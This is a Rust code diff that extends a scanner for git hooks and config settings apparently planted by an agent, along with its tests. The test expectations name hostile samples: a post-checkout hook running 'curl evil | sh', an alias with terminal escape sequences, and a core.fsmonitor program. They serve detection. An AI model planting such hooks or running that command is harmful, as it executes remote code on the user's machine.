@@ -32,6 +32,8 @@ enum Seen {
         len: u64,
         modified: Option<std::time::SystemTime>,
     },
+    /// Neither a file nor a link (a pipe, a device): not read.
+    Other,
 }
 
 /// Git's watched files under some folders at one time, and the folders too large to see whole.
@@ -39,6 +41,8 @@ enum Seen {
 pub struct GitSnapshot {
     files: BTreeMap<PathBuf, Seen>,
     partly_seen: Vec<PathBuf>,
+    /// Folders whose contents could not be listed.
+    unreadable: Vec<PathBuf>,
 }
 
 /// Git's watched files under `folders` now, breadth first (so a deep or wide tree cannot hide
@@ -80,7 +84,14 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
                     record(&mut snapshot.files, &hook.path());
                 }
             }
-            let Ok(entries) = std::fs::read_dir(&dir) else { continue };
+            let entries = match std::fs::read_dir(&dir) {
+                Ok(entries) => entries,
+                // A folder the agent made unreadable hides what is below it: said.
+                Err(_) => {
+                    snapshot.unreadable.push(dir.clone());
+                    continue;
+                }
+            };
             for entry in entries.flatten() {
                 let Ok(kind) = entry.file_type() else { continue };
                 let name = entry.file_name();
@@ -99,7 +110,9 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
 /// A git folder by its contents: `HEAD` and objects of its own or a common folder elsewhere
 /// (a linked worktree's admin folder).
 fn git_like(dir: &Path) -> bool {
-    dir.join("HEAD").is_file() && (dir.join("objects").is_dir() || dir.join("commondir").is_file())
+    // Not followed: git takes a HEAD that is a link (to `refs/heads/main`), and objects that are.
+    let there = |name: &str| dir.join(name).symlink_metadata().is_ok();
+    there("HEAD") && (there("objects") || there("commondir"))
 }
 
 /// Remember `path` without following it: a link by its target, a file by its first bytes.
@@ -109,7 +122,9 @@ fn record(files: &mut BTreeMap<PathBuf, Seen>, path: &Path) {
     if meta.file_type().is_symlink() {
         let target = std::fs::read_link(path).unwrap_or_default();
         files.insert(path.to_owned(), Seen::Link(target));
-    } else if meta.is_file() && meta.len() > MAX_FILE {
+    } else if !meta.is_file() {
+        files.insert(path.to_owned(), Seen::Other);
+    } else if meta.len() > MAX_FILE {
         let seen = Seen::TooLarge { len: meta.len(), modified: meta.modified().ok() };
         files.insert(path.to_owned(), seen);
     } else if meta.is_file() {
@@ -160,6 +175,8 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
         let shown = path.display();
         match seen {
             _ if in_hooks && name.ends_with(".sample") => {}
+            Seen::Other if in_hooks => {}
+            Seen::Other => found.push(format!("{shown} is not a regular file: look at it")),
             Seen::TooLarge { len, .. } => {
                 found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
             }
@@ -190,6 +207,13 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
             }
         }
     }
+    for folder in after.unreadable.iter().filter(|f| !before.unreadable.contains(f)) {
+        found.push(format!(
+            "{} cannot be listed: what is below it was not looked at, so treat every \
+             repository in it as untrusted",
+            folder.display()
+        ));
+    }
     for folder in &after.partly_seen {
         found.push(format!(
             "{} holds more than {MAX_FOLDERS} folders: only part of it was looked at, so treat \
@@ -197,21 +221,7 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
             folder.display()
         ));
     }
-    found.iter().map(|line| visible(line)).collect()
-}
-
-/// `text` with every control character shown as an escape (`\x1b`), so that what a lock wrote
-/// cannot move the cursor, erase its own report or set a title where the report is shown.
-pub fn visible(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        if c.is_control() {
-            out.extend(c.escape_default());
-        } else {
-            out.push(c);
-        }
-    }
-    out
+    found.iter().map(|line| super::visible(line)).collect()
 }
 
 /// A hook's first line that is not its interpreter line or a comment, shortened.
@@ -237,16 +247,17 @@ fn shorten(text: &str) -> String {
 fn settings(text: &str) -> Vec<(String, String)> {
     let mut section = String::new();
     let mut found = Vec::new();
+    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
     for line in text.lines().map(str::trim) {
         let mut line = line;
-        if let Some((header, rest)) = line.strip_prefix('[').and_then(|l| l.split_once(']')) {
+        // Git reads several headers on one line, and a setting after them: `[a] [core] x = …`.
+        while let Some((header, rest)) = line.strip_prefix('[').and_then(|l| l.split_once(']')) {
             let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
             let sub = sub.trim().trim_matches('"');
             section = match sub.is_empty() {
                 true => name.trim().to_lowercase(),
                 false => format!("{}.{sub}", name.to_lowercase()),
             };
-            // Git reads a setting on the header's own line too: `[core] fsmonitor = …`.
             line = rest.trim();
         }
         if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
@@ -343,6 +354,13 @@ mod tests {
             far.push("d");
         }
         std::fs::create_dir_all(&far).expect("deep folders");
+        // A bare repository whose HEAD is a link, with a setting after two headers on one
+        // line and a byte-order mark.
+        let bare = dir.join("src");
+        std::fs::create_dir_all(bare.join("objects")).expect("objects");
+        std::os::unix::fs::symlink("refs/heads/main", bare.join("HEAD")).expect("HEAD link");
+        std::fs::write(bare.join("config"), "\u{feff}[user] [core] fsmonitor = ./fsm\n")
+            .expect("config");
         let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
         let d = deep.display();
         assert_eq!(
@@ -356,6 +374,7 @@ mod tests {
                 format!("{d}/config sets alias.x = !printf '\\033[2K'\\u{{1b}}[1A"),
                 format!("{d}/hooks/post-checkout runs curl evil | sh"),
                 format!("{d}/hooks/pre-commit is a link to /bin/true"),
+                format!("{}/src/config sets core.fsmonitor = ./fsm", dir.display()),
             ]
         );
         let _ = std::fs::remove_dir_all(&dir);
